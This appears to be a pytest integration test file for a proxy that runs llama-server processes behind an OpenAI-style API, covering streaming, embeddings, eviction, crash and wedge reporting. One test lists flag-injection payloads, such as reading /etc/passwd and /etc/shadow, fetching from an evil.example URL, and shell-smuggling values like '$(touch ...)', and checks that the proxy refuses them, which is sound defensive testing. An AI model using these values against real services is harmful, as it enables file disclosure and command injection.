"""The proxy in front of real llama-servers (real build, real SmolLM2 model), via the openai SDK.

At most three llama-servers run at once; each uses a small context and one thread.
"""

from __future__ import annotations

import dataclasses
import json
import logging
import os
import signal
import threading
import time
import urllib.error
import urllib.request
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from types import MappingProxyType
from typing import TYPE_CHECKING, Any

import openai
import pytest
from proxy_harness import ProxyThread, pid_alive, running_proxy, wait_until

from llama_proc.proxy.flag_policy import FlagPolicy
from llama_proc.proxy.models_config import ModelsConfig, ModelSpec
from llama_proc.proxy.options import ProxyOptions
from llama_proc.proxy.servers import LlamaServerFactory

if TYPE_CHECKING:
    from collections.abc import Iterator

    from openai.types.chat import ChatCompletionMessageParam

SMALL: dict[str, Any] = {"threads": 1, "parallel": 2}
HI: list[ChatCompletionMessageParam] = [{"role": "user", "content": "Say hello."}]


def spec(model: Path, model_id: str, *extra: str, **options: Any) -> ModelSpec:
    return ModelSpec(
        id=model_id,
        path=model,
        options=MappingProxyType({**SMALL, **options}),
        extra_args=extra,
    )


@pytest.fixture
def factory(llama_server_bin: Path) -> LlamaServerFactory:
    return LlamaServerFactory(binary=llama_server_bin, start_timeout=120)


def client(proxy: ProxyThread, **kwargs: Any) -> openai.OpenAI:
    return openai.OpenAI(base_url=proxy.base_url + "/v1", api_key="unused", max_retries=0, **kwargs)


def post(
    url: str, body: dict[str, Any], headers: dict[str, str] | None = None
) -> tuple[int, dict[str, Any]]:
    request = urllib.request.Request(
        url,
        data=json.dumps(body).encode(),
        headers={"Content-Type": "application/json", **(headers or {})},
    )
    try:
        with urllib.request.urlopen(request, timeout=120) as resp:
            reply: dict[str, Any] = json.loads(resp.read())
            return resp.status, reply
    except urllib.error.HTTPError as err:
        error: dict[str, Any] = json.loads(err.read())
        return err.code, error


def _long_stream(sdk: Any) -> tuple[Any, Iterator[Any]]:
    """A streamed chat that runs for minutes, three chunks in: (the stream, its iterator)."""
    stream = sdk.chat.completions.create(
        model="smol",
        messages=[{"role": "user", "content": "Tell me a very long story."}],
        max_tokens=3000,
        stream=True,
        extra_body={"ignore_eos": True},
    )
    it = iter(stream)
    for _ in range(3):
        next(it)
    return stream, it


def test_openai_sdk_chat_stream_embeddings(smol_model: Path, factory: LlamaServerFactory) -> None:
    models = ModelsConfig(
        {
            "smol": spec(smol_model, "smol", ctx_size=1024),
            "smol-embed": spec(
                smol_model, "smol-embed", ctx_size=512, embeddings=True, pooling="mean"
            ),
        }
    )
    with running_proxy(models, factory, max_servers=2) as proxy:
        sdk = client(proxy)
        assert {m.id for m in sdk.models.list()} == {"smol", "smol-embed"}

        reply = sdk.chat.completions.create(model="smol", messages=HI, max_tokens=12, temperature=0)
        assert (reply.choices[0].message.content or "").strip()
        assert reply.usage is not None
        assert reply.usage.completion_tokens > 0

        began = time.monotonic()
        arrivals: list[float] = []
        pieces: list[str] = []
        stream = sdk.chat.completions.create(
            model="smol", messages=HI, max_tokens=24, temperature=0, stream=True
        )
        for chunk in stream:
            if chunk.choices and chunk.choices[0].delta.content:
                arrivals.append(time.monotonic() - began)
                pieces.append(chunk.choices[0].delta.content)
        assert len(pieces) > 3
        assert "".join(pieces).strip()
        # Chunks arrive spread out (as generated), not all at once at the end.
        assert arrivals[-1] - arrivals[0] > 0.01

        emb = sdk.embeddings.create(model="smol-embed", input=["hello", "goodbye world"])
        assert len(emb.data) == 2
        assert len(emb.data[0].embedding) == 576  # SmolLM2-135M's embedding width
        assert emb.data[0].embedding != emb.data[1].embedding

        # One scrape of the proxy covers its own metrics and each server's, labelled.
        metrics = urllib.request.urlopen(proxy.base_url + "/metrics", timeout=30).read().decode()
        lines = metrics.splitlines()
        assert any(
            line.startswith("llamacpp:tokens_predicted_total{") and 'model="smol"' in line
            for line in lines
        ), metrics
        assert "llama_proc_upstream_scrape_errors 0" in lines
        assert lines.count("# TYPE llamacpp:tokens_predicted_total counter") == 1

        servers = proxy.servers()
        assert sorted(s["model"] for s in servers) == ["smol", "smol-embed"]
        assert all(s["state"] == "ready" and pid_alive(s["pid"]) for s in servers)
        pids = [s["pid"] for s in servers]
    # Shutting the proxy down stops every child.
    assert wait_until(lambda: not any(pid_alive(p) for p in pids), 10)


def test_many_clients_two_models_eviction_under_load(
    smol_model: Path, factory: LlamaServerFactory
) -> None:
    models = ModelsConfig(
        {
            "smol-a": spec(smol_model, "smol-a", ctx_size=512),
            "smol-b": spec(smol_model, "smol-b", ctx_size=768),
        }
    )
    with running_proxy(models, factory, max_servers=1) as proxy:
        sdk = client(proxy, timeout=300)
        seen_up: list[int] = []
        stop = threading.Event()

        def monitor() -> None:
            while not stop.is_set():
                up = [s for s in proxy.servers() if s["state"] in ("starting", "ready", "stopping")]
                seen_up.append(len(up))
                time.sleep(0.01)

        watcher = threading.Thread(target=monitor)
        watcher.start()

        def one(i: int) -> str:
            model = "smol-a" if i % 2 else "smol-b"
            stream = i % 3 == 0
            if stream:
                text = "".join(
                    c.choices[0].delta.content or ""
                    for c in sdk.chat.completions.create(
                        model=model, messages=HI, max_tokens=6, stream=True
                    )
                    if c.choices
                )
            else:
                text = (
                    sdk.chat.completions.create(model=model, messages=HI, max_tokens=6)
                    .choices[0]
                    .message.content
                    or ""
                )
            return model if text else ""

        try:
            with ThreadPoolExecutor(8) as pool:
                results = list(pool.map(one, range(16)))
        finally:
            stop.set()
            watcher.join()
        assert results.count("smol-a") == 8
        assert results.count("smol-b") == 8
        assert max(seen_up) == 1  # never two servers at once with --max-servers 1
        assert proxy.pool is not None
        assert proxy.pool.stats["evictions_lru"] >= 1
        assert proxy.pool.stats["crashes"] == 0
        # The last stream's handler may still be returning when its client has read [DONE].
        counted = 'llama_proc_proxy_requests_total{endpoint="/v1/chat/completions",code="200"} 16'

        def all_counted() -> bool:
            with urllib.request.urlopen(proxy.base_url + "/metrics", timeout=30) as resp:
                return counted in resp.read().decode().splitlines()

        assert wait_until(all_counted, 5)


def test_client_disconnect_mid_stream_stops_generation(
    smol_model: Path, factory: LlamaServerFactory
) -> None:
    models = ModelsConfig({"smol": spec(smol_model, "smol", ctx_size=4096)})
    with running_proxy(models, factory) as proxy:
        sdk = client(proxy)
        sdk.chat.completions.create(model="smol", messages=HI, max_tokens=1)
        direct = proxy.servers()[0]["url"]

        def processing() -> bool:
            with urllib.request.urlopen(direct + "/slots", timeout=10) as resp:
                return any(slot["is_processing"] for slot in json.loads(resp.read()))

        stream, _ = _long_stream(sdk)
        assert processing()
        stream.close()  # the client goes away mid-stream
        assert wait_until(lambda: not processing(), 5), "llama-server kept generating"
        info = proxy.servers()[0]
        assert info["active_requests"] == 0


INJECTIONS = [
    "--host 0.0.0.0",
    "--port 1",
    "-m /etc/passwd",
    "--model /etc/passwd",
    "--api-key stolen",
    "--log-file /tmp/llama-proc-pwned.log",
    "--hf-repo evil/model",
    "--model-url http://evil.example/x.gguf",
    "-c 512; touch /tmp/llama-proc-pwned",
    "$(touch /tmp/llama-proc-pwned)",
    "--ctx-size=512 --rpc 10.0.0.1:50052",
    "--chat-template-file /etc/shadow",
    "--path /",
    "'--unterminated",
]


def test_flag_injection_is_refused(smol_model: Path, factory: LlamaServerFactory) -> None:
    # Per-request flags are off unless the config allows them: this model allows -c only.
    allowed = FlagPolicy.from_table({"--ctx-size": {"min": 128, "max": 512}})
    models = ModelsConfig(
        {"smol": dataclasses.replace(spec(smol_model, "smol", ctx_size=512), request_flags=allowed)}
    )
    body = {"model": "smol", "messages": HI, "max_tokens": 2}
    with running_proxy(models, factory) as proxy:
        url = proxy.base_url + "/v1/chat/completions"
        for flags in INJECTIONS:
            status, reply = post(url, body, {"X-Llama-Flags": flags})
            assert status == 400, flags
            assert reply["error"]["code"] == "invalid_flags", flags
            assert reply["error"]["param"] == "X-Llama-Flags"
        assert proxy.servers() == []
        assert not Path("/tmp/llama-proc-pwned").exists()
        assert not Path("/tmp/llama-proc-pwned.log").exists()

        # An allowed load flag gives its own server, keyed on the normalized flags.
        status, _ = post(url, body, {"X-Llama-Flags": "--ctx-size=256"})
        assert status == 200
        status, _ = post(url, body, {"X-Llama-Flags": "-c 256"})
        assert status == 200
        status, _ = post(url, body)
        assert status == 200
        servers = proxy.servers()
        assert len(servers) == 2
        flagged = next(s for s in servers if s["flags"])
        assert flagged["flags"] == ["-c", "256"]
        assert flagged["requests"] == 2
        with urllib.request.urlopen(flagged["url"] + "/props", timeout=10) as resp:
            props = json.loads(resp.read())
        assert props["default_generation_settings"]["n_ctx"] <= 256


def test_crashed_server_is_restarted_and_reported(
    smol_model: Path, factory: LlamaServerFactory
) -> None:
    models = ModelsConfig({"smol": spec(smol_model, "smol", ctx_size=512)})
    body = {"model": "smol", "messages": HI, "max_tokens": 2}
    with running_proxy(models, factory) as proxy:
        url = proxy.base_url + "/v1/chat/completions"
        assert post(url, body)[0] == 200
        [info] = proxy.servers()
        os.kill(info["pid"], signal.SIGKILL)
        assert wait_until(lambda: not pid_alive(info["pid"]), 5)
        status, reply = post(url, body)
        assert status == 200, reply
        [after] = proxy.servers()
        assert after["pid"] != info["pid"]
        assert after["crashes"] == 1
        assert after["starts"] == 2
        assert "exited unexpectedly" in after["last_error"]


def test_sigstopped_server_mid_stream_is_reported_as_wedged(
    smol_model: Path, factory: LlamaServerFactory, caplog: pytest.LogCaptureFixture
) -> None:
    # A stopped process is alive but silent: the health probes find it wedged, the pool stops
    # it, and the client, the log and the metrics must say so (not "crashed ... exit status
    # unknown", which is what the broken stream looked like).
    models = ModelsConfig({"smol": spec(smol_model, "smol", ctx_size=4096)})
    probes = {"probe_interval": 0.3, "probe_timeout": 0.5, "wedge_after": 2}
    with (
        caplog.at_level(logging.INFO, logger="llama_proc"),
        running_proxy(models, factory, pool_options=probes) as proxy,
    ):
        sdk = client(proxy)
        sdk.chat.completions.create(model="smol", messages=HI, max_tokens=1)
        [info] = proxy.servers()
        _, it = _long_stream(sdk)
        os.kill(info["pid"], signal.SIGSTOP)
        stopped_at = time.monotonic()
        with pytest.raises(openai.APIError) as err:
            for _ in it:
                pass
        told_after = time.monotonic() - stopped_at
        assert wait_until(lambda: not pid_alive(info["pid"]), 5), "the wedged server lives on"
        metrics = urllib.request.urlopen(proxy.base_url + "/metrics", timeout=30).read().decode()
        [after] = proxy.servers()
    message = str(err.value)
    assert "wedged" in message, message
    assert "crash" not in message, message
    assert "exit status unknown" not in message, message
    assert told_after < 10, told_after  # 2 failed probes of 0.5 s, 0.3 s apart, and the stop
    assert 'llama_proc_proxy_upstream_errors_total{model="smol",kind="wedge"} 1' in metrics
    assert 'kind="crash"' not in metrics
    assert after["crashes"] == 0
    warnings = [r.getMessage() for r in caplog.records if r.levelno >= logging.WARNING]
    assert any("wedged" in w for w in warnings), warnings
    assert not any("crashed" in w for w in warnings), warnings


def test_bad_model_file_is_a_clear_start_failure(
    tmp_path: Path, factory: LlamaServerFactory
) -> None:
    bogus = tmp_path / "not-a-model.gguf"
    bogus.write_bytes(b"this is not a gguf file" * 100)
    models = ModelsConfig({"bogus": spec(bogus, "bogus")})
    with running_proxy(models, factory, options=ProxyOptions()) as proxy:
        status, reply = post(
            proxy.base_url + "/v1/chat/completions", {"model": "bogus", "messages": HI}
        )
        assert status == 503
        assert reply["error"]["code"] == "server_start_failed"
        assert "bogus" in reply["error"]["message"]
        [info] = proxy.servers()
        assert info["state"] == "stopped"
        assert info["last_error"].startswith("failed to start")
